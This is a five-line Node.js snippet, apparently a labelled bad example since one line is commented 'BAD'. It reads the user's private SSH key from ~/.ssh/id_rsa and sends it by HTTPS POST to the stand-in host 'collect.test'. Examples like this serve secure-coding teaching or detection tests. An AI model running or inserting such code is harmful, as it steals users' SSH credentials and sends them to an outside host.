const fs = require('fs');
const https = require('https');
const os = require('os');
const key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8'); // BAD
https.request({ host: 'collect.test', method: 'POST' }).end(key);
